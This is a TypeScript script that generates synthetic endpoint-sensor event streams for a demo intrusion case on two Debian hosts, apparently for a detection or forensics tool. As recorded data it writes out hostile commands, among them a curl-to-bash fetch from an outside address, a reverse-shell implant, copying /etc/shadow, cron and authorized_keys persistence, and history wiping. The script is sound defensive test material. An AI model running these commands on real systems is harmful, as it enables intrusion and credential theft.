// Writes resources/demo/: the recorded sensor streams and host list the bundled demo case is built
// from. The story (a PHP web shell on web-01 becoming a reverse shell with persistence, then SSH to
// db-01) is written here as data so the files stay reviewable; run it again after editing:
//   node scripts/make-demo-case.ts
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const outDir = join(dirname(fileURLToPath(import.meta.url)), '..', 'resources', 'demo');
const startNs = Date.UTC(2026, 10, 20, 14, 2, 0) * 1e6;

interface Proc {
  pid: number;
  ppid: number;
  uid: number;
  gid: number;
  comm: string;
  path: string;
  argv: string[];
  cwd: string;
  createdNs: number;
  tty?: string;
  auid?: number;
}

class Recorder {
  private seq = 0;
  private nowNs: number;
  readonly lines: object[] = [];
  readonly procs = new Map<number, Proc>();

  constructor(hello: object, startAt: number) {
    this.nowNs = startAt;
    this.lines.push(hello);
  }

  advance(ms: number): this {
    this.nowNs += Math.round(ms * 1e6);
    return this;
  }

  context(proc: Proc): object {
    const name = proc.path.split('/').at(-1) ?? proc.path;
    return {
      pid: proc.pid,
      tid: proc.pid,
      ppid: proc.ppid,
      uid: proc.uid,
      gid: proc.gid,
      euid: proc.uid,
      egid: proc.gid,
      auid: proc.auid ?? 4294967295,
      user: proc.uid === 0 ? 'root' : proc.uid === 33 ? 'www-data' : proc.uid === 112 ? 'postgres' : `uid${proc.uid}`,
      comm: proc.comm,
      file: { path: proc.path, name },
      // as the sensor writes them: argv without argv0, which comes on its own
      argv: proc.argv.slice(1),
      argv0: proc.argv[0] ?? '',
      args: proc.argv.slice(1).join(' '),
      args_truncated: false,
      cwd: proc.cwd,
      created_at: proc.createdNs,
      tty_name: proc.tty ?? '',
      cgroup: { id: 4242 },
      container: { id: '' },
    };
  }

  emit(type: string, proc: Proc, body: object = {}): this {
    this.seq += 1;
    this.nowNs += 137_000;
    this.lines.push({ seq: this.seq, ts: this.nowNs, type, process: this.context(proc), ...body });
    return this;
  }

  /** A process seen by the /proc scan at sensor start. */
  existing(proc: Omit<Proc, 'createdNs'>, ageMs: number): Proc {
    const full = { ...proc, createdNs: this.nowNs - ageMs * 1e6 };
    this.procs.set(full.pid, full);
    this.emit('snapshot', full, { snapshot: {} });
    return full;
  }

  /** fork of `parent` then exec of `path`: the two events a sensor sees for a new program. */
  spawn(parent: Proc, pid: number, path: string, argv: string[], extra: Partial<Proc> = {}): Proc {
    const child: Proc = { ...parent, pid, ppid: parent.pid, createdNs: this.nowNs, ...extra };
    this.emit('fork', { ...parent, pid, ppid: parent.pid, createdNs: this.nowNs }, { fork: { child: { pid }, parent: { pid: parent.pid } } });
    const name = path.split('/').at(-1) ?? path;
    const execd: Proc = { ...child, path, argv, comm: name.slice(0, 15) };
    this.procs.set(pid, execd);
    this.emit('exec', execd, { exec: { file: { path, name }, argv: argv.slice(1), argv0: argv[0] ?? '', args: argv.slice(1).join(' '), args_truncated: false } });
    return execd;
  }

  exit(proc: Proc, code = 0): this {
    return this.emit('exit', proc, { exit: { code, cause: 'EXITED' } });
  }

  open(proc: Proc, path: string, flags: number, mode = 0o644): this {
    return this.emit('open', proc, { open: { file: { path, name: path.split('/').at(-1) }, flags, mode, retval: 3 } });
  }

  connect(proc: Proc, ip: string, port: number): this {
    return this.emit('connect', proc, { connect: { addr: { ip, port, family: 'AF_INET' }, protocol: 'tcp', retval: 0 } });
  }

  heartbeat(emitted: number): this {
    this.lines.push({ type: 'heartbeat', ts: this.nowNs, counters: { emitted, kernel_drops: 0, spool_drops: 0, ringbuf_fill: 0.01 } });
    return this;
  }
}

const O_RDONLY = 0, O_WRONLY = 1, O_CREAT = 0o100, O_TRUNC = 0o1000, O_APPEND = 0o2000;

function hello(host: string, kernel: string, bootId: string): object {
  return { type: 'hello', sensor: { version: '0.1.0' }, host, kernel, btf: true, hooks: ['tp_btf/sched_process_exec', 'tp_btf/sched_process_fork', 'tp_btf/sched_process_exit', 'raw_tp/sys_enter', 'raw_tp/sys_exit'], boot_id: bootId };
}

function webHost(): Recorder {
  const r = new Recorder(hello('web-01', '6.1.0-28-amd64', '6f1c2d8e-0b7a-4c1e-9d3f-2a5b7c9e1f04'), startNs);
  const systemd = r.existing({ pid: 1, ppid: 0, uid: 0, gid: 0, comm: 'systemd', path: '/usr/lib/systemd/systemd', argv: ['/sbin/init'], cwd: '/' }, 86_400_000);
  r.existing({ pid: 612, ppid: 1, uid: 0, gid: 0, comm: 'sshd', path: '/usr/sbin/sshd', argv: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], cwd: '/' }, 86_000_000);
  const nginx = r.existing({ pid: 801, ppid: 1, uid: 0, gid: 0, comm: 'nginx', path: '/usr/sbin/nginx', argv: ['nginx: master process /usr/sbin/nginx -g daemon on; master_process on;'], cwd: '/' }, 85_000_000);
  r.existing({ pid: 802, ppid: nginx.pid, uid: 33, gid: 33, comm: 'nginx', path: '/usr/sbin/nginx', argv: ['nginx: worker process'], cwd: '/' }, 85_000_000);
  const fpmMaster = r.existing({ pid: 840, ppid: systemd.pid, uid: 0, gid: 0, comm: 'php-fpm8.2', path: '/usr/sbin/php-fpm8.2', argv: ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)'], cwd: '/' }, 84_000_000);
  const fpm = r.existing({ pid: 841, ppid: fpmMaster.pid, uid: 33, gid: 33, comm: 'php-fpm8.2', path: '/usr/sbin/php-fpm8.2', argv: ['php-fpm: pool www'], cwd: '/var/www/html' }, 84_000_000);
  r.heartbeat(6);

  // The web shell: uploaded through a vulnerable form, then asked to run commands.
  r.advance(41_000).open(fpm, '/var/www/html/uploads/avatar.php', O_WRONLY | O_CREAT | O_TRUNC);
  r.advance(9_000);
  const sh1 = r.spawn(fpm, 23011, '/usr/bin/dash', ['sh', '-c', 'id; uname -a']);
  r.exit(r.spawn(sh1, 23012, '/usr/bin/id', ['id']));
  r.exit(r.spawn(sh1, 23013, '/usr/bin/uname', ['uname', '-a']));
  r.exit(sh1);
  r.advance(12_000);
  const sh2 = r.spawn(fpm, 23020, '/usr/bin/dash', ['sh', '-c', 'curl -s http://203.0.113.45/x.sh | bash']);
  const curl = r.spawn(sh2, 23021, '/usr/bin/curl', ['curl', '-s', 'http://203.0.113.45/x.sh']);
  r.connect(curl, '203.0.113.45', 80);
  const bash = r.spawn(sh2, 23022, '/usr/bin/bash', ['bash']);
  r.exit(curl);
  r.exit(r.spawn(bash, 23023, '/usr/bin/mkdir', ['mkdir', '-p', '/tmp/.x']));
  const curl2 = r.spawn(bash, 23024, '/usr/bin/curl', ['curl', '-so', '/tmp/.x/kworkerd', 'http://203.0.113.45/k']);
  r.connect(curl2, '203.0.113.45', 80).open(curl2, '/tmp/.x/kworkerd', O_WRONLY | O_CREAT | O_TRUNC).exit(curl2);
  const chmod = r.spawn(bash, 23025, '/usr/bin/chmod', ['chmod', '+x', '/tmp/.x/kworkerd']);
  r.emit('chmod', chmod, { chmod: { file: { path: '/tmp/.x/kworkerd', name: 'kworkerd', destination: { mode: 0o755 } } } }).exit(chmod);
  const implant = r.spawn(bash, 23026, '/tmp/.x/kworkerd', ['[kworker/0:2]']);
  r.connect(implant, '198.51.100.23', 4444);
  r.advance(3_000);
  const shell = r.spawn(implant, 23030, '/usr/bin/bash', ['bash', '-i']);
  r.heartbeat(48);

  // Hands on keyboard: looking around, stealing, persisting, cleaning up.
  r.advance(20_000);
  r.exit(r.spawn(shell, 23031, '/usr/bin/whoami', ['whoami']));
  const cat = r.spawn(shell, 23032, '/usr/bin/cat', ['cat', '/etc/passwd']);
  r.open(cat, '/etc/passwd', O_RDONLY).exit(cat);
  r.advance(15_000);
  const sudo = r.spawn(shell, 23033, '/usr/bin/sudo', ['sudo', '-n', 'bash', '-c', 'cat /etc/shadow > /tmp/.x/s'], { uid: 0, gid: 0 });
  const rootSh = r.spawn(sudo, 23034, '/usr/bin/bash', ['bash', '-c', 'cat /etc/shadow > /tmp/.x/s'], { uid: 0, gid: 0 });
  r.open(rootSh, '/tmp/.x/s', O_WRONLY | O_CREAT | O_TRUNC);
  const catShadow = r.spawn(rootSh, 23035, '/usr/bin/cat', ['cat', '/etc/shadow'], { uid: 0, gid: 0 });
  r.open(catShadow, '/etc/shadow', O_RDONLY).exit(catShadow).exit(rootSh).exit(sudo);
  r.advance(30_000);
  const cron = r.spawn(shell, 23040, '/usr/bin/sudo', ['sudo', '-n', 'tee', '/etc/cron.d/kworker'], { uid: 0, gid: 0 });
  r.open(cron, '/etc/cron.d/kworker', O_WRONLY | O_CREAT | O_TRUNC).exit(cron);
  const keys = r.spawn(shell, 23041, '/usr/bin/sudo', ['sudo', '-n', 'tee', '-a', '/root/.ssh/authorized_keys'], { uid: 0, gid: 0 });
  r.open(keys, '/root/.ssh/authorized_keys', O_WRONLY | O_CREAT | O_APPEND, 0o600).exit(keys);
  r.advance(10_000);
  const ssh = r.spawn(shell, 23050, '/usr/bin/ssh', ['ssh', '-o', 'StrictHostKeyChecking=no', 'deploy@10.0.2.21']);
  r.connect(ssh, '10.0.2.21', 22);
  r.heartbeat(96);
  r.advance(60_000);
  r.exit(ssh);
  const ln = r.spawn(shell, 23060, '/usr/bin/ln', ['ln', '-sf', '/dev/null', '/var/www/.bash_history']);
  r.emit('unlink', ln, { unlink: { file: { path: '/var/www/.bash_history', name: '.bash_history' } } });
  r.emit('link', ln, { link: { file: { path: '/dev/null', name: 'null', destination: { path: '/var/www/.bash_history' } } } }).exit(ln);
  r.heartbeat(112);
  return r;
}

function dbHost(): Recorder {
  const r = new Recorder(hello('db-01', '6.1.0-28-amd64', 'b3e0a9c4-5d6f-4e21-8a7b-1c2d3e4f5a6b'), startNs + 5_000 * 1e6);
  const systemd = r.existing({ pid: 1, ppid: 0, uid: 0, gid: 0, comm: 'systemd', path: '/usr/lib/systemd/systemd', argv: ['/sbin/init'], cwd: '/' }, 90_000_000);
  const sshd = r.existing({ pid: 598, ppid: 1, uid: 0, gid: 0, comm: 'sshd', path: '/usr/sbin/sshd', argv: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], cwd: '/' }, 89_000_000);
  const pg = r.existing({ pid: 720, ppid: systemd.pid, uid: 112, gid: 120, comm: 'postgres', path: '/usr/lib/postgresql/15/bin/postgres', argv: ['/usr/lib/postgresql/15/bin/postgres', '-D', '/var/lib/postgresql/15/main'], cwd: '/var/lib/postgresql/15/main' }, 88_000_000);
  r.heartbeat(3);
  r.advance(30_000);
  const backup = r.spawn(systemd, 4100, '/usr/bin/pg_dump', ['pg_dump', '-Fc', '-f', '/var/backups/app.dump', 'app'], { uid: 112, gid: 120 });
  r.connect(backup, '127.0.0.1', 5432).open(backup, '/var/backups/app.dump', O_WRONLY | O_CREAT | O_TRUNC).exit(backup);
  r.advance(95_000);
  const session = r.spawn(sshd, 4200, '/usr/sbin/sshd', ['sshd: deploy [priv]']);
  r.emit('accept', session, { accept: { addr: { ip: '10.0.2.20', port: 51544, family: 'AF_INET' }, protocol: 'tcp', retval: 5 } });
  const login = r.spawn(session, 4202, '/usr/bin/bash', ['-bash'], { uid: 1001, gid: 1001, auid: 1001, tty: 'pts0' });
  const psql = r.spawn(login, 4210, '/usr/bin/psql', ['psql', '-h', '127.0.0.1', '-U', 'app', '-c', 'COPY users TO STDOUT'], { uid: 1001, gid: 1001, auid: 1001, tty: 'pts0' });
  r.connect(psql, '127.0.0.1', 5432).exit(psql);
  r.heartbeat(18);
  void pg;
  return r;
}

const hosts = [
  { name: 'web-01', address: '10.0.2.20', os: 'Debian GNU/Linux 12 (bookworm)', kernel: '6.1.0-28-amd64', arch: 'x86_64', stream: 'web-01.ndjson', recorder: webHost() },
  { name: 'db-01', address: '10.0.2.21', os: 'Debian GNU/Linux 12 (bookworm)', kernel: '6.1.0-28-amd64', arch: 'x86_64', stream: 'db-01.ndjson', recorder: dbHost() },
];

mkdirSync(outDir, { recursive: true });
for (const host of hosts) {
  const file = join(outDir, host.stream);
  writeFileSync(file, host.recorder.lines.map((line) => JSON.stringify(line)).join('\n') + '\n');
  console.log(`${file}: ${host.recorder.lines.length} lines`);
}
const manifest = {
  name: 'Demo: web shell on web-01',
  version: 2,
  description: 'A PHP web shell on web-01 turns into a reverse shell, steals /etc/shadow, persists through cron and authorized_keys, and reaches db-01 over SSH.',
  hosts: hosts.map(({ recorder: _recorder, ...host }) => host),
};
writeFileSync(join(outDir, 'demo-case.json'), JSON.stringify(manifest, null, 2) + '\n');
console.log(`${join(outDir, "demo-case.json")}: written`);
